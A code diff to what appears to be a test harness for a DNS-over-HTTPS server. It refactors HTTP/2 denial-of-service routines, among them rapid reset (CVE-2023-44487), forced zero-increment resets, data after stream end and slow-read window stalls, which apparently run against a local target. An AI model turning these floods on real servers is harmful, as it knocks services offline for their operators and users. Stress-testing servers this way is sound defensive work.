@@ -190,18 +190,23 @@ def odd(n):
     return 2 * n + 1
 
 
+def asking(name):
+    """The header block of a GET."""
+    return request(target="/dns-query?dns=" + doh.b64(doh.wire(doh.question(name))))
+
+
 # --- floods of frames; each ends in Cut
 
 def rapid_reset(target):
     """CVE-2023-44487."""
-    get = request(target="/dns-query?dns=" + doh.b64(doh.wire(doh.question("rapid.example"))))
+    get = asking("rapid.example")
     flood(target, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, odd(n), get) +
           frame(RST_STREAM, 0, odd(n), u32(CANCEL)))
 
 
 def made_you_reset(target):
     """CVE-2025-8671: the server is made to reset, by an increment of 0."""
-    get = request(target="/dns-query?dns=" + doh.b64(doh.wire(doh.question("made.example"))))
+    get = asking("made.example")
     flood(target, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, odd(n), get) +
           frame(WINDOW_UPDATE, 0, odd(n), u32(0)))
 
@@ -215,7 +220,7 @@ def overflowing_windows(target):
 
 def data_after_end(target):
     """CVE-2025-8671, by a body after the end."""
-    get = request(target="/dns-query?dns=" + doh.b64(doh.wire(doh.question("after.example"))))
+    get = asking("after.example")
     flood(target, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, odd(n), get) + frame(DATA, 0, odd(n), b"x"))
 
 
@@ -307,7 +312,7 @@ def table_resizes(target):
 
 def one_byte_windows(target):
     """Answers wait, and are let go byte by byte."""
-    get = request(target="/dns-query?dns=" + doh.b64(doh.wire(doh.question("good.example"))))
+    get = asking("good.example")
 
     def make(n):
         if n < 50:
@@ -320,7 +325,7 @@ def one_byte_windows(target):
 
 def shut_windows(target):
     """Many answers, and no window for any of them."""
-    get = request(target="/dns-query?dns=" + doh.b64(doh.wire(doh.question("good.example"))))
+    get = asking("good.example")
     with Raw(target.tls(), setting(INITIAL_WINDOW_SIZE, 0)) as raw:
         for n in range(90):
             raw.send(frame(HEADERS, END_HEADERS | END_STREAM, odd(n), get))
@@ -329,7 +334,7 @@ def shut_windows(target):
 
 def sips(target):
     """Many answers, of which a byte is let go five times a second."""
-    get = request(target="/dns-query?dns=" + doh.b64(doh.wire(doh.question("good.example"))))
+    get = asking("good.example")
     deadline = time.monotonic() + PATIENCE
     with Raw(target.tls(), setting(INITIAL_WINDOW_SIZE, 0)) as raw:
         raw.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, odd(n), get) for n in range(90)))
@@ -344,7 +349,7 @@ def sips(target):
 
 def never_reads(target):
     """Asks for more than the sockets' buffers hold and reads none of it. Waits for the server to hang up."""
-    get = request(target="/dns-query?dns=" + doh.b64(doh.wire(doh.question("good.example"))))
+    get = asking("good.example")
     sock = target.tcp()
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
     sock = doh.tls_context(target.ca, ("h2",)).wrap_socket(sock, server_hostname="localhost")
